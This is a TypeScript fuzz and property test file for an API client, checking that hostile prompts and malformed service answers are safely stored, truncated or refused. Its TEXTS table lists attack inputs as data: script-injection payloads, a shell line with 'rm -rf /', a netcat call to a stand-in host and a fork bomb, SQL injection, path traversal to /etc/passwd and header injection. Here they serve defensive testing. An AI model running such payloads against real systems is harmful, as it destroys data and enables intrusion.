import assert from 'node:assert/strict';
import * as fc from 'fast-check';
import nodeFetch, { Response } from 'node-fetch';
import { HttpApiClient } from '../../../src/api/httpApiClient';
import { getChargeRisk, ApiError } from '../../../src/api/apiError';
import { redactSignedUrls } from '../../../src/common/redact';
import type { TaskRecord } from '../../../src/tasks/model/taskRecord';
import { parseRecordFile, serializeRecord } from '../../../src/tasks/storage/recordFile';
import * as transitions from '../../../src/tasks/model/transitions';
import { character } from '../../support/character';
import { INTENT, KEY, startHarness, type TestHarness } from '../../support/harness';
import { StubServer } from '../../support/stubServer';

const ID = '687fbd658a5526000178d729';
/** A record of this size is still read in no time, and a thousand of them are no burden. */
const MAX_RECORD_CHARS = 40_000;

/** Texts that break something somewhere: a terminal, a page, a file name, a parser, a reader's eyes. */
const TEXTS: Readonly<Record<string, string>> = {
  html: '<script>alert(document.cookie)</script>',
  'html in an attribute': '"><img src=x onerror=alert(1)>',
  svg: '<svg/onload=alert(1)>',
  entities: '&lt;b&gt; &#x3c;script&#x3e; &amp;',
  'markdown link': '[click](command:workbench.action.terminal.new?%5B%5D)',
  'markdown image': '![x](https://evil.example/?leak)',
  'markdown html': '<a href="command:seedance.setKey">key</a>',
  codicon: '$(trash) $(sync~spin)',
  template: '${env:HOME} {{7*7}} #{7*7} %s %n %d {0}',
  sql: `'; DROP TABLE tasks; --`,
  shell: '$(rm -rf /) `reboot` | nc evil 1 && :(){ :|:& };:',
  'path upwards': '../../../../etc/passwd',
  'path of Windows': '..\\..\\C:\\Windows\\System32\\con.mp4',
  'reserved name': 'CON.mp4:stream',
  'null byte': 'cat\0.mp4',
  'control characters': '\x01\x02\x07\x08\x1b\x7f\x9f',
  'terminal escapes': '\x1b[2J\x1b]0;owned\x07\x1b[31mred',
  'line breaks': 'a\rb\nc\r\nd\u2028e\u2029f\u0085g',
  'header injection': 'x\r\nAuthorization: stolen\r\n\r\n{"code":0}',
  'log injection': 'fine\n2026-05-20 12:00 [info] task ffff is ffff at the service',
  'right to left': '\u202egpj.elif\u202c \u2066abc\u2069 \u200f',
  'zero width': 'a\u200bb\u200cc\u200dd\ufeffe',
  zalgo:
    'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031ea\u0300l\u0301g\u0302o',
  'emoji with joints': '👩‍👩‍👧‍👦 🏳️‍🌈 🇷🇺 👍🏽',
  'many planes': '𝕊𝕖𝕖𝕕 𠜎𠜱 \u{10ffff}',
  'lone surrogate': 'a\ud83d b\ude00 c',
  normalisation: 'e\u0301 \u00e9 \ufb01 \u212b',
  cyrillic: 'Кошка — «рыжая», ёлка № 5',
  arabic: 'قطة على السطح',
  chinese: '屋顶上的猫',
  json: '{"code":0,"id":"ffffffffffffffffffffffff","status":"done"}',
  'broken json': '"},{"code":2,',
  prototype: '__proto__',
  constructor: 'constructor.prototype.polluted',
  'a number': '1e999',
  'a word that means something': 'undefined null NaN true [object Object]',
  'of spaces': '   \t  ',
  empty: '',
  'a data URL': `data:text/html;base64,${Buffer.from('<script>1</script>').toString('base64')}`,
  'a command URL': 'command:workbench.action.quit',
  'a javascript URL': 'javascript:alert(1)',
  'a file URL': 'file:///etc/passwd',
  'a URL with credentials': 'https://user:password@evil.example/x.mp4',
  'a look-alike': 'https://gptunnеl.ru/v1',
  'suffix of the service': 'cat --ar 1:1 --ar 16:9',
  'regular expression': '(a+)+$ .*?\\1 [',
  'slow for an expression': `${'a '.repeat(3_000)}--ar 4:3`,
  'a long word': 'x'.repeat(100_000),
  'many lines': '\n'.repeat(50_000),
  'many brackets': '['.repeat(50_000),
  'the end of a comment': '--> ]]> */ \u0000 %00 %2e%2e%2f',
};

describe('hostile texts', function () {
  this.timeout(30_000);
  let harness: TestHarness;
  let server: StubServer;
  let apiClient: HttpApiClient;

  before(async () => {
    harness = await startHarness();
    server = await new StubServer().open();
    apiClient = new HttpApiClient({ fetch: nodeFetch, baseUrl: () => new URL(`${server.origin}/v1`), now: () => 0 });
  });
  after(async () => {
    await harness.end();
    await harness.emulator.close();
    await server.close();
  });

  it('are many', () => assert.ok(Object.keys(TEXTS).length >= 40));

  for (const [name, text] of Object.entries(TEXTS)) {
    it(`${name}: as a prompt they are sent and kept as they are`, async () => {
      const record = await harness.make({ prompt: text });
      const sent = harness.emulator.ledger.creates().at(-1)?.body as { prompt: string };
      // Half a character is none in UTF-8; `checkPrompt` takes it out before.
      const asUtf8 = Buffer.from(text).toString();
      assert.equal(sent.prompt, name === 'lone surrogate' ? text : asUtf8);
      assert.equal(harness.get(record.id).request.prompt, text);
      assert.ok(record.state === 'waiting' || (record.state === 'failed' && text.trim() === ''), record.state);
      assert.equal(roundTrip(record).request.prompt, text);
    });

    it(`${name}: as the words of the service they are kept as text, and not for long`, async () => {
      server.respondWith({
        code: 0,
        status: 'failed',
        message: text,
        prompt: text,
        model: text,
        error: text,
        mime: text,
        [text]: text,
      });
      const result = await apiClient.result(ID, { key: KEY });
      assert.equal(result.progress, 'failed');
      assert.ok(text.startsWith((result.message ?? '').slice(0, 9_000)));
      const added = transitions.createAdded({ id: 'a1', gatewayId: ID, at: 1 });
      const record = roundTrip(transitions.withPollResult(result, 2)(added));
      assert.equal(
        record.error?.message,
        result.message && redactSignedUrls(result.message.slice(0, 4_000)).slice(0, 1_000),
      );
      assert.ok(serializeRecord(record).length < 6 * MAX_RECORD_CHARS);

      server.respondWith({ code: 3, message: text, issues: [{ path: text, expected: text, message: text }] });
      const error = await failureOf(apiClient.create({ model: 'm', prompt: 'p' }, { key: KEY }));
      const refused = roundTrip(transitions.refused(transitions.toTaskError(error, 3))(draft()));
      assert.equal(refused.error?.kind, 'invalid-input');
      assert.ok(serializeRecord(refused).length < MAX_RECORD_CHARS);
    });

    it(`${name}: as an id, a word, a link or a date they are refused or harmless`, async () => {
      server.respondWith({ code: 0, id: text });
      const created = apiClient.create({ model: 'm', prompt: 'p' }, { key: KEY });
      if (/^[\w-]{1,128}$/.test(text)) {
        // Safe in a URL and in a file name; ids are kept in maps, where no name means anything.
        assert.deepEqual(await created, { id: text });
      } else {
        assert.equal((await failureOf(created)).kind, 'bad-answer');
      }

      // Any https host may serve a result: the link carries no key, and what it gives is checked.
      const link =
        name === 'a look-alike'
          ? /^https:\/\/xn--/
          : name === 'a URL with credentials'
            ? /^https:\/\/user:/
            : undefined;
      for (const body of [
        { code: 0, status: text, url: text },
        { code: 0, status: 'done', url: text, created_at: text, cost: text },
      ]) {
        server.respondWith(body);
        const told = await apiClient.result(ID, { key: KEY }).catch((error: unknown) => error);
        if (link) {
          assert.match((told as { url: string }).url, link);
        } else {
          assert.ok(
            told instanceof ApiError
              ? told.kind === 'bad-answer'
              : (told as { progress: string }).progress === 'pending',
          );
        }
      }

      server.respondWith({ code: text, models: [{ id: text, price: text }], balance: text });
      await failureOf(apiClient.balance({ key: KEY }));
      for (const { id, price } of await apiClient.models({ key: KEY })) {
        assert.ok(id.length <= 200 && price === undefined);
      }
    });

    it(`${name}: as the whole answer they are no answer`, async () => {
      server.respondWith(name === 'json' ? JSON.stringify(text) : text);
      const error = await failureOf(apiClient.create({ model: 'm', prompt: 'p' }, { key: KEY }));
      assert.ok(error.kind === 'bad-answer' || error.kind === 'in-between', error.kind);
      assert.equal(getChargeRisk(error.kind), 'possible');
      assert.ok(error.message.length < 300);
    });
  }

  it('as the id of a task to follow never leave the body of the question', async () => {
    for (const text of Object.values(TEXTS)) {
      await assert.rejects(harness.run(harness.generate.add(text)), ApiError);
      const question = harness.emulator.ledger.results().at(-1);
      assert.equal(question?.path, '/v1/media/result');
      assert.deepEqual(question?.query, {});
    }
  });

  it('leave a store behind that loads as it was', async () => {
    const before = harness.store.list();
    harness = await harness.reopen();
    assert.deepEqual(harness.store.damaged, []);
    assert.deepEqual(
      harness.store.list().map(({ id, request }) => [id, request.prompt]),
      before.map(({ id, request }) => [id, request.prompt]),
    );
  });
});

describe('hostile answers', function () {
  this.timeout(30_000);
  /** Answers from memory: thousands in a second, and no socket says anything that these do not. */
  let answer: { text: string; status: number; headers: Record<string, string> };
  const apiClient = new HttpApiClient({
    fetch: () => Promise.resolve(new Response(answer.text, { status: answer.status, headers: answer.headers })),
    baseUrl: () => new URL('https://gptunnel.ru/v1'),
    now: () => 1_000,
  });
  const calls = {
    create: () => apiClient.create({ model: 'm', prompt: 'p' }, { key: KEY }),
    result: () => apiClient.result(ID, { key: KEY }),
    models: () => apiClient.models({ key: KEY }),
    balance: () => apiClient.balance({ key: KEY }),
  };

  const leaf = fc.oneof(
    fc.string(),
    fc.string({ unit: character }),
    fc.double(),
    fc.integer(),
    fc.boolean(),
    fc.constant(null),
    fc.constantFrom(...Object.values(TEXTS).filter((text) => text.length < 200)),
  );
  const { value } = fc.letrec((tie) => ({
    value: fc.oneof(
      { depthSize: 'small' },
      leaf,
      fc.array(tie('value'), { maxLength: 5 }),
      fc.dictionary(fc.string(), tie('value'), { maxKeys: 5 }),
    ),
  }));
  const KNOWN = [
    'code',
    'id',
    'status',
    'url',
    'message',
    'error',
    'issues',
    'models',
    'balance',
    'creditLimit',
    'created_at',
    'cost',
    'prompt',
    'model',
    '__proto__',
  ];
  /** Right names, wrong contents: what a changed or broken service would send. */
  const almost = fc.dictionary(
    fc.constantFrom(...KNOWN),
    fc.oneof(value, fc.constantFrom(0, 1, 2, 'done', 'idle', 'failed', 'https://a.example/b.mp4', ID)),
    { maxKeys: 10 },
  );
  const text = fc.oneof(
    { weight: 4, arbitrary: almost.map((body) => JSON.stringify(body)) },
    { weight: 2, arbitrary: value.map((body) => JSON.stringify(body)) },
    { weight: 1, arbitrary: fc.string({ unit: character, maxLength: 200 }) },
    { weight: 1, arbitrary: fc.tuple(almost, fc.nat(100)).map(([body, cut]) => JSON.stringify(body).slice(0, cut)) },
  );
  const status = fc.oneof(
    fc.constantFrom(200, 200, 200, 400, 401, 404, 429, 500, 502, 503),
    fc.integer({ min: 200, max: 599 }),
  );
  const headers = fc.record(
    { 'retry-after': fc.oneof(fc.constantFrom('1', '-1', 'x', '99999999999999999999'), fc.nat().map(String)) },
    { requiredKeys: [] },
  );

  for (const call of Object.keys(calls) as (keyof typeof calls)[]) {
    it(`give ${call} a checked value or a typed error, and nothing else`, async () => {
      await fc.assert(
        fc.asyncProperty(text, status, headers, async (body, code, about) => {
          fc.pre(code !== 204 && code !== 205 && code !== 304);
          answer = { text: body, status: code, headers: about };
          let told: unknown;
          try {
            told = await calls[call]();
          } catch (error) {
            assert.ok(error instanceof ApiError, String(error));
            assert.ok(error.message.length < 11_000 && error.issues.length <= 20);
            assert.ok(error.retryAfterMs === undefined || (error.retryAfterMs >= 0 && error.retryAfterMs <= 3_600_000));
            return;
          }
          assert.equal(CHECKS[call](told as never), true, JSON.stringify(told));
        }),
        { numRuns: 700, seed: 20260520 },
      );
    });
  }

  it('lead a record nowhere that it cannot come back from', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 8 }), async (bodies) => {
        let record: TaskRecord = transitions.createAdded({ id: 'a1', gatewayId: ID, at: 1 });
        for (const body of bodies) {
          answer = { text: body, status: 200, headers: {} };
          const change = await calls.result().then(
            (result) => transitions.withPollResult(result, 5),
            (error: unknown) => transitions.withTransientError(transitions.toTaskError(error as ApiError, 5)),
          );
          const before = record;
          record = roundTrip(change(record));
          assert.ok(before.state !== 'done' || record.state === 'done');
          assert.ok(record.result === undefined || record.result.url.startsWith('https://'));
          assert.ok(serializeRecord(record).length < MAX_RECORD_CHARS);
        }
        assert.ok(!('polluted' in {}));
      }),
      { numRuns: 300, seed: 20260520 },
    );
  });

  it('of any size and depth are read to their end', async () => {
    for (const body of [
      `{"code":0,"models":[${'{"id":"a"},'.repeat(90_000)}{"id":"b"}]}`,
      `{"code":3,"issues":[${'{},'.repeat(300_000)}{}]}`,
      `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`,
      `{"code":0,"status":"idle","prompt":${JSON.stringify(`${' '.repeat(500_000)}--ar 9:1`)}}`,
      `{"code":0,"status":"idle","prompt":${JSON.stringify(' --ar'.repeat(150_000))}}`,
      `{"code":1,"message":${JSON.stringify('я'.repeat(400_000))}}`,
      // For what looks for JSON, ids and titles in anything.
      `x${' '.repeat(900_000)}x`,
      `x${'\0 '.repeat(400_000)}x`,
      `{"a":"${'\\"'.repeat(300_000)}`,
      `{"a":1${', '.repeat(300_000)}`,
      `{"a":1,${' '.repeat(900_000)}`,
      '{'.repeat(500_000),
      '{"'.repeat(300_000),
      '"id": '.repeat(150_000),
      'id'.repeat(400_000),
      `"id":"${'a'.repeat(900_000)}`,
      '0123456789abcdef01234567 '.repeat(35_000),
      '<title'.repeat(150_000),
      '<script>'.repeat(100_000),
      '<'.repeat(900_000),
      '-'.repeat(900_000),
      'NaN '.repeat(200_000),
      `{"code":0,"status":"failed","message":"${'violat output input '.repeat(40_000)}"}`,
      `{"code":0,"status":"failed","message":"${'violat'.repeat(100_000)}"}`,
      `{"code":0,"status":"done","url":"${'a.'.repeat(400_000)}"}`,
    ]) {
      for (const status of [200, 403]) {
        answer = { text: body, status, headers: {} };
        for (const call of Object.values(calls)) {
          await call().catch((error: unknown) => assert.ok(error instanceof ApiError));
          // What is quadratic takes minutes, and the time limit of the tests ends it.
        }
      }
    }
  });
});

const CHECKS = {
  create: ({ id, createdAt }: Awaited<ReturnType<HttpApiClient['create']>>) =>
    /^[A-Za-z0-9_-]{1,128}$/.test(id) && isTime(createdAt),
  result: ({ progress, word, url, message, cost, createdAt, prompt }: Awaited<ReturnType<HttpApiClient['result']>>) =>
    ['pending', 'done', 'failed'].includes(progress) &&
    word.length <= 64 &&
    (url !== undefined) === (progress === 'done') &&
    (url === undefined || url.startsWith('https://')) &&
    (message ?? '').length <= 10_001 &&
    (prompt ?? '').length <= 10_001 &&
    (cost === undefined || cost >= 0) &&
    isTime(createdAt),
  models: (models: Awaited<ReturnType<HttpApiClient['models']>>) =>
    models.length <= 5_000 &&
    models.every(({ id, price }) => id.length > 0 && id.length <= 200 && (price === undefined || price >= 0)),
  balance: ({ balance }: Awaited<ReturnType<HttpApiClient['balance']>>) => Number.isFinite(balance),
} as const;

function isTime(at: number | undefined): boolean {
  return at === undefined || (Number.isFinite(at) && at >= 0);
}

function draft(): TaskRecord {
  return transitions.submitting(2)(
    transitions.createDraft({ id: 'a1', request: { model: INTENT.model, prompt: 'p' }, at: 1 }),
  );
}

/** On the disk and back: what a record was, it is. */
function roundTrip(record: TaskRecord): TaskRecord {
  const file = parseRecordFile(record.id, serializeRecord(record));
  assert.ok(file.kind === 'record' && !file.readOnly, file.kind);
  assert.deepEqual(JSON.parse(JSON.stringify(file.record)), JSON.parse(JSON.stringify(record)));
  return file.record;
}

async function failureOf(call: Promise<unknown>): Promise<ApiError> {
  const error: unknown = await call.then(
    (told) => assert.fail(`no error but ${JSON.stringify(told)}`),
    (reason: unknown) => reason,
  );
  assert.ok(error instanceof ApiError, String(error));
  return error;
}
